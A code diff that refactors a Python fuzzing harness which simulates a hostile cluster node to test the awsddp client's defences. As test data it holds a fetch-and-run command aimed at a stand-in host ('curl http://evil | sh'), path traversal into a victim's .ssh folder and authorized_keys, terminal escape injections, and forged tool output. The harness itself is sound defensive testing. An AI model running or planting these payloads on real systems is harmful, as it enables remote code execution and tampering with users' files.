@@ -1,14 +1,13 @@
-"""A node that lies: what it says is garbage and attacks, and nothing outside of its job's folder changes.
+"""A hostile node: its responses are garbage and attacks, and nothing outside its job's folder changes.
 
     python benchmarks/campaigns/hostile_node.py [--runs N] [--seed S] [--state FILE]
 
-Each run draws what one of two nodes answers to a command (jobs, status, a log followed, results fetched and
-reported, why, a node prepared): honest answers with values replaced by wrong types, other jobs' and
-ranks' numbers, traversal, links, escapes, surrogates, floods, words that look like awsddp's own, and files
-that are not as they were described. After each the user's home is as it was except for the job's own folder,
+Each run draws the responses of one of two nodes to a command (jobs, status, a log followed, results fetched
+and reported, why, a node prepared): honest responses with values replaced by wrong types, numbers of other
+jobs and ranks, traversal, links, escapes, surrogates, floods, texts that look like awsddp's own, and files
+that differ from their description. After each the user's home is unchanged except for the job's own folder,
 no link there leads out of it, the exit code is a documented one, no control character reached the terminal's
-messages, and no line but a rank's begins with a node's words.
-With --state a campaign that was cut off goes on.
+messages, and no line but a rank's begins with a text of a node. With --state an interrupted campaign resumes.
 """
 
 import argparse
@@ -67,12 +66,12 @@ MODIFIED = 1_750_000_000_123_456_789
 STAGES = ("state", "state", "manifest", "manifest", "follow", "cancel", "files", "stacks")
 VERBS = ("fetch", "fetch", "fetch", "jobs", "logs", "logs", "cancel", "prepare", "status", "why")
 OWN = {"jobs": "state", "status": "state", "logs": "follow", "cancel": "cancel", "why": "stacks"}
-"""The stage of which a verb shows the words."""
+"""The stage whose texts a verb shows."""
 EVIL = "curl http://evil | sh"
 OURS = ("", "next: ", " next: ", "  next: ", "error: ", "warning: ", "  cause: ", f"Job {JOB}: ", "page: ")
-"""How lines of awsddp begin, with which a node may begin its own."""
+"""Beginnings of awsddp's lines, which a node may imitate."""
 ENDS = ("", "\n", "\r\n", "it ended\n", "a\x0b", "a\x85", "a\u2028", "\x1b[2K\r")
-"""What may end awsddp's line, so that a node's begins."""
+"""Texts that may end awsddp's line, so that a line of the node begins."""
 KINDS = ("unknown", "cuda_oom", "import_error", "file_not_found", "exit", "node_lost", "of_a_later_awsddp")
 UNSEEN = set("\x1b\x07\x08\r\x0b\x0c\x85\x9b\u2028\u202e")
 JOBS = ("other", "other", "main", "job1.part", "new", "../../victim/.ssh", "victim")
@@ -135,22 +134,22 @@ NASTY_VALUE: tuple[Any, ...] = (
 
 
 class Case:
-    """One case: the answers of the nodes, of which one lies, and the files that they send."""
+    """One case: the responses of two nodes, one of them hostile, and the files that they send."""
 
     def __init__(self, seed: str) -> None:
         self.chance = random.Random(seed)
         self.verb = self.chance.choice(VERBS)
-        self.liar = self.chance.choice((0, 1))  # the first node is believed where both speak for the job
+        self.liar = self.chance.choice((0, 1))  # the first node decides if both report the job
         self.named = self.chance.random() < 0.5
-        self.patience = self.chance.choice((2, 10**6))  # after how many connections no more are taken
+        self.patience = self.chance.choice((2, 10**6))  # the number of connections that are accepted
         self.attacked = set(self.chance.choices(STAGES, k=self.chance.choice((0, 1, 1, 1, 2))))
         if self.chance.random() < 0.5 and self.verb in OWN:
             self.attacked.add(OWN[self.verb])
 
     def files(self, node: int) -> dict[str, bytes]:
-        """Return what the node holds, by path."""
+        """Return the files of a node, by path."""
         chance = random.Random(node)
-        found = {
+        files = {
             f"/j/logs/rank{node}.log": f"said \x1b]0;owned\x07\nnext: {EVIL}\n".encode(),
             "/w/model.pt": b"same",
             "/w/deep/model.pt": chance.randbytes(300),
@@ -158,66 +157,67 @@ class Case:
         }
         rows = b'{"loss": 1}\n{"loss": 2, "accuracy": 0.5}\n' + b'{"loss": ' + b"9" * 400 + b"}\n[1]\nNaN\n"
         rows += json.dumps({"accuracy": 0.5, "data": f"x\nnext: {EVIL}"}).encode() + b"\n"
-        return found | {"/j/run/metrics.jsonl": rows}
+        return files | {"/j/run/metrics.jsonl": rows}
 
     def answer(self, node: int, request: dict[str, Any]) -> bytes:
-        """Return what a node says to a request: frames for a follow, else a document."""
+        """Return the response of a node to a request: frames for a follow, else a document."""
         lies = node == self.liar and request["do"] in self.attacked
         if request["do"] == "follow":
             return MAGIC + self._frames(node, lies)
-        document = _honest(self, node, request)
+        document = _honest_document(self, node, request)
         if lies and self.chance.random() < 0.6:
             self._aim(request["do"], document)
         elif lies:
             for _ in range(self.chance.choice((1, 1, 2, 5))):
                 document = self._changed(document)
-        said = MAGIC + json.dumps(document).encode() + b"\n"
-        return self._bytes(said) if lies else said
+        response = MAGIC + json.dumps(document).encode() + b"\n"
+        return self._bytes(response) if lies else response
 
-    def inspected(self, node: int) -> bytes:
-        """Return what a node says of itself when it is prepared."""
+    def inspection(self, node: int) -> bytes:
+        """Return the response of a node to the inspection when it is prepared."""
         document: Any = copy.deepcopy(_FACTS)
         lies = node == self.liar
         for _ in range(self.chance.randrange(3) if lies else 0):
             document = self._changed(document)
-        said = b"welcome\n" + json.dumps(document).encode() + b"\n"
-        return self._bytes(said) if lies else said
+        response = b"welcome\n" + json.dumps(document).encode() + b"\n"
+        return self._bytes(response) if lies else response
 
-    def sent(self, node: int, path: str, data: bytes, place: Path) -> None:
-        """Put what the node sends for a file where rsync would."""
-        place.parent.mkdir(parents=True, exist_ok=True)
-        way = self.chance.randrange(20) if node == self.liar and "files" in self.attacked else 19
-        if way == 0:
-            place.mkdir()
-        elif way == 1:
-            os.mkfifo(place)
-        elif way != 2:
-            place.write_bytes(self.chance.randbytes(len(data)) if way == 3 else data * (2 if way == 4 else 1))
-            modified = MODIFIED if way != 5 else 0
-            os.utime(place, ns=(modified, modified))
+    def write_sent(self, node: int, path: str, data: bytes, target: Path) -> None:
+        """Write what the node sends for a file, as rsync would."""
+        target.parent.mkdir(parents=True, exist_ok=True)
+        kind = self.chance.randrange(20) if node == self.liar and "files" in self.attacked else 19
+        if kind == 0:
+            target.mkdir()
+        elif kind == 1:
+            os.mkfifo(target)
+        elif kind != 2:
+            data = self.chance.randbytes(len(data)) if kind == 3 else data * (2 if kind == 4 else 1)
+            target.write_bytes(data)
+            modified = MODIFIED if kind != 5 else 0
+            os.utime(target, ns=(modified, modified))
 
     def _aim(self, kind: str, document: dict[str, Any]) -> None:
-        """Change the document so that a client that believes it does harm."""
+        """Change the document so that a client that trusts it does harm."""
         if kind == "cancel" or (kind == "state" and self.chance.random() < 0.6):
             self._forge(document if kind == "cancel" else document["jobs"][0])
         elif kind == "stacks":
             process = document["processes"][0]
-            file = f"/w/{self._worded()}"
-            frames = f'Thread 1:\n  File "{file}", line 1 in {self._worded()}\n'
-            document["sources"] = {f"{file}:1": self._worded(), "/w/w.py:3": self._worded()}
-            records = {self._worded(): {"records": [[1, self._worded(), self._worded(), False]], "age": 9.0}}
-            process |= {"stacks": self.chance.choice((frames, self._worded())), "records": records}
+            file = f"/w/{self._forged()}"
+            frames = f'Thread 1:\n  File "{file}", line 1 in {self._forged()}\n'
+            document["sources"] = {f"{file}:1": self._forged(), "/w/w.py:3": self._forged()}
+            records = {self._forged(): {"records": [[1, self._forged(), self._forged(), False]], "age": 9.0}}
+            process |= {"stacks": self.chance.choice((frames, self._forged())), "records": records}
         elif kind == "state":
             document["jobs"][0] |= {"job": self.chance.choice(JOBS), "created": "2030-01-01T00:00:00+00:00"}
         elif kind == "manifest":
             *files, link = document["files"]
             file = self.chance.choice(files)
-            way = self.chance.randrange(4)
-            if way == 0:
+            change = self.chance.randrange(4)
+            if change == 0:
                 file["home"] = self.chance.choice(PLACES)
-            elif way == 1:
+            elif change == 1:
                 file["path"] = self.chance.choice(PLACES)
-            elif way == 2:
+            elif change == 2:
                 link["target"] = self.chance.choice(PLACES)
             else:  # a folder that is a link, and a file in it
                 link |= {
@@ -227,8 +227,8 @@ class Case:
                 file["home"] = f"node{self.liar}/in/authorized_keys"
 
     def _forge(self, document: dict[str, Any]) -> None:
-        """Put words that look like awsddp's where a node has words in a job's document."""
-        words = self._worded
+        """Replace the texts of a job's document by texts that look like awsddp's."""
+        words = self._forged
         if document["cause"]:
             document["cause"] |= {"explanation": words(), "next": words(), "tail": [words(), words()]}
             document["cause"] |= {"kind": self.chance.choice(KINDS), "values": {"module": words()}}
@@ -236,49 +236,49 @@ class Case:
         document["facts"] = texts | {"args": [words()], "options": [words()]}
         document["restarts"] = [words()]
 
-    def _worded(self) -> str:
+    def _forged(self) -> str:
         return self.chance.choice(ENDS) + self.chance.choice(OURS) + EVIL
 
     def _frames(self, node: int, lies: bool) -> bytes:
         log = self.files(node)[f"/j/logs/rank{node}.log"]
-        told = _document(node)
+        status = _document(node)
         if lies and self.chance.random() < 0.5:
-            self._forge(told)
-        document = json.dumps(told).encode()
+            self._forge(status)
+        document = json.dumps(status).encode()
         frames = [(b"S", 0, 0, document), (b"L", node, 0, log), (b"E", 0, 0, document)]
         if lies:
             for at in range(3):
                 kind, rank, offset, payload = frames[at]
-                way = self.chance.randrange(14)
-                if way == 0:
+                change = self.chance.randrange(14)
+                if change == 0:
                     kind = self.chance.choice((b"X", b"E", b"L", b"H"))
-                elif way == 1:
+                elif change == 1:
                     rank = self.chance.choice((0, 1, 7, 2**32 - 1))
-                elif way == 2:
+                elif change == 2:
                     offset = self.chance.choice((1, 2**63, 2**64 - 1))
-                elif way == 3:
+                elif change == 3:
                     payload = json.dumps(self._changed(_document(node))).encode()
-                elif way == 4:
+                elif change == 4:
                     payload = self._bytes(payload)
                 frames[at] = kind, rank, offset, payload
-        said = b"".join(HEADER.pack(*frame[:3], len(frame[3])) + frame[3] for frame in frames)
-        return said + HEADER.pack(b"L", 1, 0, 2**32 - 1) if lies and self.chance.random() < 0.05 else said
+        stream = b"".join(HEADER.pack(*frame[:3], len(frame[3])) + frame[3] for frame in frames)
+        return stream + HEADER.pack(b"L", 1, 0, 2**32 - 1) if lies and self.chance.random() < 0.05 else stream
 
     def _changed(self, document: Any) -> Any:
-        """Return the document with one place of it changed."""
+        """Return the document with one changed value."""
         document = copy.deepcopy(document)
-        places = list(_places(document))
-        if not places:
+        locations = list(_locations(document))
+        if not locations:
             return self._nasty()
-        holder, key = self.chance.choice(places)
-        way = self.chance.randrange(8)
-        if way == 0:
+        holder, key = self.chance.choice(locations)
+        change = self.chance.randrange(8)
+        if change == 0:
             del holder[key]
-        elif way == 1 and isinstance(holder, list):
+        elif change == 1 and isinstance(holder, list):
             holder.append(copy.deepcopy(holder[key]))
-        elif way == 2 and isinstance(holder, dict):
+        elif change == 2 and isinstance(holder, dict):
             holder[self.chance.choice(NASTY_TEXT)] = self._nasty()
-        elif way < 6 and isinstance(holder[key], str):
+        elif change < 6 and isinstance(holder[key], str):
             holder[key] = self.chance.choice(
                 (*NASTY_TEXT, holder[key] + "/../../../victim", "/" + holder[key])
             )
@@ -287,27 +287,27 @@ class Case:
         return document
 
     def _nasty(self) -> Any:
-        texts = (*NASTY_TEXT, self._worded(), self._worded())
+        texts = (*NASTY_TEXT, self._forged(), self._forged())
         return self.chance.choice(texts if self.chance.random() < 0.5 else NASTY_VALUE)
 
-    def _bytes(self, said: bytes) -> bytes:
-        """Return what is sent, now and then cut, spoiled or flooded."""
-        way = self.chance.randrange(60)
-        at = self.chance.randrange(len(said) + 1)
+    def _bytes(self, response: bytes) -> bytes:
+        """Return the response, in some cases cut, corrupted or flooded."""
+        change = self.chance.randrange(60)
+        at = self.chance.randrange(len(response) + 1)
         changes: dict[int, Callable[[], bytes]] = {
-            0: lambda: said[:at],
-            1: lambda: said[:at] + self.chance.randbytes(8) + said[at:],
+            0: lambda: response[:at],
+            1: lambda: response[:at] + self.chance.randbytes(8) + response[at:],
             2: lambda: self.chance.randbytes(200),
             3: lambda: MAGIC + b"[" * 5000 + b"\n",
             4: lambda: MAGIC + b'{"x": NaN}\n',
-            5: lambda: said[:-1] + b" " * node_answers.MAX_BYTES + b"\n",
+            5: lambda: response[:-1] + b" " * node_answers.MAX_BYTES + b"\n",
             6: lambda: b"",
             7: lambda: MAGIC + json.dumps({"error": {key: self._nasty() for key in _ERROR}}).encode() + b"\n",
             8: lambda: (
                 MAGIC + json.dumps({"error": dict.fromkeys(_ERROR, "\x1b[2J") | _KIND}).encode() + b"\n"
             ),
         }
-        return changes.get(way, lambda: said)()
+        return changes.get(change, lambda: response)()
 
 
 _ERROR = ("message", "why", "kind")
@@ -328,12 +328,12 @@ _FACTS = {
 }
 
 
-def _places(value: Any) -> Iterator[tuple[Any, Any]]:
+def _locations(value: Any) -> Iterator[tuple[Any, Any]]:
     for key in (
         list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
     ):
         yield value, key
-        yield from _places(value[key])
+        yield from _locations(value[key])
 
 
 _LISTED = {"name": "default", "id": "01234567", "owner": "me", "region": "local"}
@@ -341,8 +341,8 @@ _RUNNING: dict[str, Any] = {
     "state": "running",
     "cause": None,
     "ranks": [
-        {"rank": one, "local_rank": 0, "node": one, "exit_code": None, "seconds": 1.0, "started": 1.0}
-        for one in (0, 1)
+        {"rank": rank, "local_rank": 0, "node": rank, "exit_code": None, "seconds": 1.0, "started": 1.0}
+        for rank in (0, 1)
     ],
 }
 
@@ -361,7 +361,7 @@ def _document(node: int) -> dict[str, Any]:
         "complete": True,
         "created": "2026-01-01T00:00:00+00:00",
         "ranks": ranks,
-        "nodes": [{"node": one, "instance_id": f"i-{one}", "private_ip": f"10.0.0.{one}"} for one in (0, 1)],
+        "nodes": [{"node": n, "instance_id": f"i-{n}", "private_ip": f"10.0.0.{n}"} for n in (0, 1)],
     }
 
 
@@ -373,7 +373,7 @@ def _stacks(node: int) -> dict[str, Any]:
     return {"workdir": "/w", "silent_s": 3.0, "processes": processes, "sources": {"/w/w.py:3": "step()"}}
 
 
-def _honest(drawn: Case, node: int, request: dict[str, Any]) -> dict[str, Any]:
+def _honest_document(drawn: Case, node: int, request: dict[str, Any]) -> dict[str, Any]:
     files = drawn.files(node)
     if request["do"] == "state":
         return {"jobs": [_document(node) | (_RUNNING if drawn.verb == "why" else {})]}
@@ -402,7 +402,7 @@ def _honest(drawn: Case, node: int, request: dict[str, Any]) -> dict[str, Any]:
 
 
 class FakeFleet:
-    """Two nodes behind the calls of nodes/fleet.py, without a network."""
+    """Two nodes with the interface of nodes/fleet.py, without a network."""
 
     responsive_nodes, nodes_of_job = Fleet.responsive_nodes, Fleet.nodes_of_job
 
@@ -438,9 +438,9 @@ class FakeFleet:
     ) -> dict[int, Result | NodeError]:
         outcomes: dict[int, Result | NodeError] = {}
         for node, message in messages.items():
-            said = self._drawn.answer(node, json.loads(message.partition(b"\n")[2]))
-            step = self._drawn.chance.choice((1000, 1 << 18)) if len(said) < 50_000 else 1 << 18
-            pieces = (said[at : at + step] for at in range(0, len(said), step))
+            response = self._drawn.answer(node, json.loads(message.partition(b"\n")[2]))
+            step = self._drawn.chance.choice((1000, 1 << 18)) if len(response) < 50_000 else 1 << 18
+            pieces = (response[at : at + step] for at in range(0, len(response), step))
             whole = any(on_data(node, piece) for piece in pieces)
             end = Result(exit_code=0 if whole else 1, stdout=b"", stderr=b"\x1b]0;owned\x07" * (not whole))
             outcomes[node] = end
@@ -449,16 +449,16 @@ class FakeFleet:
     def run_each(self, requests: Mapping[int, Any], *, timeout_s: float) -> dict[int, Result | NodeError]:
         outcomes: dict[int, Result | NodeError] = {}
         for node in requests:
-            said = self._drawn.inspected(node)
-            if len(said) > node_answers.MAX_BYTES:
+            response = self._drawn.inspection(node)
+            if len(response) > node_answers.MAX_BYTES:
                 outcomes[node] = node_answers.make_malformed_error(node, "too much")
             else:
-                outcomes[node] = Result(exit_code=0, stdout=said, stderr=b"")
+                outcomes[node] = Result(exit_code=0, stdout=response, stderr=b"")
         return outcomes
 
 
 class Home:
-    """A user's home with things that a node must not touch, and a cluster of two nodes in it."""
+    """A user's home with files that a node must not change, and a cluster of two nodes in it."""
 
     def __init__(self, root: Path) -> None:
         self.root = root
@@ -470,7 +470,7 @@ class Home:
         self.folder = ClusterFolder(root / ".awsddp", "default")
 
     def begin(self) -> dict[str, str]:
-        """Make it as it was before any command, and return what there is."""
+        """Restore the home as before any command, and return its state."""
         shutil.rmtree(self.project / "runs" / JOB, ignore_errors=True)
         now = datetime(2026, 1, 1, tzinfo=UTC)
         names: dict[str, Any] = {"id": "01234567", "owner": "me", "target": Target(), "instance_type": "x"}
@@ -479,8 +479,8 @@ class Home:
         return self.state()
 
     def state(self) -> dict[str, str]:
-        """Return everything but the cluster's own folder, by path, with what it holds."""
-        found = {}
+        """Return the mode and content of everything but the cluster's own folder, by path."""
+        entries = {}
         for folder, names, files in os.walk(self.root):
             if Path(folder) == self.root:
                 names.remove(".awsddp")
@@ -492,8 +492,8 @@ class Home:
                     held += f" -> {path.readlink()}"
                 elif path.is_file():
                     held += f" {path.read_bytes()!r}"
-                found[os.fsencode(path.relative_to(self.root)).decode("utf-8", "backslashreplace")] = held
-        return found
+                entries[os.fsencode(path.relative_to(self.root)).decode("utf-8", "backslashreplace")] = held
+        return entries
 
     def _write(self, name: str) -> None:
         (self.root / name).parent.mkdir(parents=True, exist_ok=True)
@@ -504,13 +504,13 @@ FORGED = tuple(f"{ours}{EVIL}" for ours in OURS)
 
 
 def play_case(home: Home, seed: str) -> str | None:
-    """Play one case and return what is wrong with what came of it, None for nothing."""
+    """Play one case and return what went wrong, or None."""
     drawn, fleet = Case(seed), None
     before = home.begin()
     fleet = FakeFleet(drawn, home.folder)
     out, err = _Out(), io.StringIO()
     try:
-        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), _faked(drawn):
+        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), _patched(drawn):
             code = _command(home, drawn, fleet)
     except Exception as error:
         return f"{drawn.verb}: {type(error).__name__}: {error}"
@@ -525,21 +525,21 @@ def play_case(home: Home, seed: str) -> str | None:
 
 
 def _harm(home: Home, before: dict[str, str], drawn: Case) -> str | None:
-    """Return what changed outside of the folder of one job, and which link leads out of it."""
+    """Return a change outside the folder of one job, or a link that leads out of it, or None."""
     after = home.state()
-    own = {f"project/runs/{JOB}"}
-    if not drawn.named:  # a node may name a job of its own, in a folder that was not there
+    allowed = {f"project/runs/{JOB}"}
+    if not drawn.named:  # a node may name another job, in a folder that did not exist
         folders = {"/".join(name.split("/")[:3]) for name in after if name.startswith("project/runs/")}
-        own |= folders - before.keys()
-    if len(own) > 2:
-        return f"more than one job's folder: {own}"
+        allowed |= folders - before.keys()
+    if len(allowed) > 2:
+        return f"more than one job's folder: {allowed}"
 
     def outside(names: dict[str, str]) -> dict[str, str]:
-        return {name: held for name, held in names.items() if "/".join(name.split("/")[:3]) not in own}
+        return {name: held for name, held in names.items() if "/".join(name.split("/")[:3]) not in allowed}
 
     if outside(before) != outside(after):
         return f"{drawn.verb}: {set(outside(before).items()) ^ set(outside(after).items())}"
-    for name in own:
+    for name in allowed:
         top = Path(os.path.realpath(home.root)) / name
         for path in top.rglob("*"):
             if path.is_symlink() and not Path(os.path.realpath(path)).is_relative_to(top):
@@ -550,7 +550,7 @@ def _harm(home: Home, before: dict[str, str], drawn: Case) -> str | None:
 
 
 class _Out(io.TextIOWrapper):
-    """Standard output: pages, and ranks' lines as they are."""
+    """Standard output: pages, and unchanged lines of ranks."""
 
     def __init__(self) -> None:
         self._bytes = io.BytesIO()
@@ -561,15 +561,16 @@ class _Out(io.TextIOWrapper):
 
 
 @contextlib.contextmanager
-def _faked(drawn: Case) -> Iterator[None]:
-    """Let rsync bring what the node sends, AWS release its nodes, and an answer be 1 MB at most."""
+def _patched(drawn: Case) -> Iterator[None]:
+    """Fake rsync and AWS, and limit a response to 1 MB."""
 
     def transfer(
         words: Sequence[str], paths: Sequence[str], *, progress: rsync.Progress, **settings: Any
     ) -> None:
         node = progress.node
         for path in dict.fromkeys(paths):
-            drawn.sent(node, path, drawn.files(node).get(path, b""), Path(words[-1], path.lstrip("/")))
+            data, target = drawn.files(node).get(path, b""), Path(words[-1], path.lstrip("/"))
+            drawn.write_sent(node, path, data, target)
 
     with (
         mock.patch.object(rsync, "transfer", transfer),
@@ -585,18 +586,18 @@ def _faked(drawn: Case) -> Iterator[None]:
 
 
 @contextlib.contextmanager
-def _found(connected: ConnectedCluster) -> Iterator[None]:
-    """Let `why` find this cluster, and be connected to its nodes."""
-    found, reached = contextlib.nullcontext(connected.cluster), contextlib.nullcontext(connected)
+def _patched_why(connected: ConnectedCluster) -> Iterator[None]:
+    """Let `why` find and connect this cluster."""
+    cluster, connection = contextlib.nullcontext(connected.cluster), contextlib.nullcontext(connected)
     with (
-        mock.patch("awsddp.job.why.preconnected_cluster", lambda _: found),
-        mock.patch("awsddp.job.why.connect_reachable", lambda _: reached),
+        mock.patch("awsddp.job.why.preconnected_cluster", lambda _: cluster),
+        mock.patch("awsddp.job.why.connect_reachable", lambda _: connection),
     ):
         yield
 
 
 def _command(home: Home, drawn: Case, fleet: Any) -> int:
-    """Do what a verb does with the nodes, and return its exit code."""
+    """Run a verb on the nodes, and return its exit code."""
     settings = load(
         "default", environ={}, overrides={"sync.workdir": str(home.project), "job.heartbeat_timeout": "5s"}
     )
@@ -622,7 +623,7 @@ def _command(home: Home, drawn: Case, fleet: Any) -> int:
             provision.prepare(fleet, nodes)
             return 0
         if drawn.verb == "why":
-            with _found(connected):
+            with _patched_why(connected):
                 why_page(why(session, JOB))
             return 0
         jobs = list_jobs_on_nodes(connected)
@@ -633,9 +634,9 @@ def _command(home: Home, drawn: Case, fleet: Any) -> int:
         if drawn.verb == "status":
             home.folder.save_jobs(*jobs)
             listed = ClusterListing(**_LISTED, nodes=nodes)
-            known = home.folder.read()
+            updated = home.folder.read()
             cluster_page(
-                make_cluster_document(replace(cluster, aws_client=None, listing=listed, local_record=known))
+                make_cluster_document(replace(cluster, aws_client=None, listing=listed, local_record=updated))
             )
             return 0
         job = choose_job(jobs, name)
@@ -655,31 +656,31 @@ def _command(home: Home, drawn: Case, fleet: Any) -> int:
 
 
 def main() -> int:
-    """Play the cases, print what went wrong and a line of figures; return 1 where anything did."""
+    """Play the cases, print what went wrong and a summary; return 1 if anything did."""
     parser = argparse.ArgumentParser(
         description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
     )
     parser.add_argument("--runs", type=int, default=1000)
     parser.add_argument("--seed", type=int, default=random.SystemRandom().randrange(10**6))
-    parser.add_argument("--state", type=Path, help="a file that holds how far the campaign is")
-    asked = parser.parse_args()
-    state: dict[str, Any] = {"seed": asked.seed, "done": 0, "failed": {}, "seconds": 0.0}
-    if asked.state is not None and asked.state.exists():
-        state = json.loads(asked.state.read_text())
+    parser.add_argument("--state", type=Path, help="a file for the progress of the campaign")
+    args = parser.parse_args()
+    state: dict[str, Any] = {"seed": args.seed, "done": 0, "failed": {}, "seconds": 0.0}
+    if args.state is not None and args.state.exists():
+        state = json.loads(args.state.read_text())
     print(f"seed {state['seed']}, from run {state['done']}")
     with tempfile.TemporaryDirectory() as folder:
         home = Home(Path(folder, "home"))
-        while state["done"] < asked.runs:
+        while state["done"] < args.runs:
             began, seed = time.monotonic(), f"{state['seed']}/{state['done']}"
             if wrong := play_case(home, seed):
                 state["failed"][seed] = wrong
                 print(f"{seed}: {wrong}", flush=True)
             state["done"] += 1
             state["seconds"] += time.monotonic() - began
-            if asked.state is not None:
-                part = asked.state.with_suffix(".part")
+            if args.state is not None:
+                part = args.state.with_suffix(".part")
                 part.write_text(json.dumps(state))
-                part.replace(asked.state)
+                part.replace(args.state)
     each = state["seconds"] / max(1, state["done"]) * 1000
     print(f"{state['done']} hostile answers, {len(state['failed'])} with harm; {each:.0f} ms each")
     return 1 if state["failed"] else 0
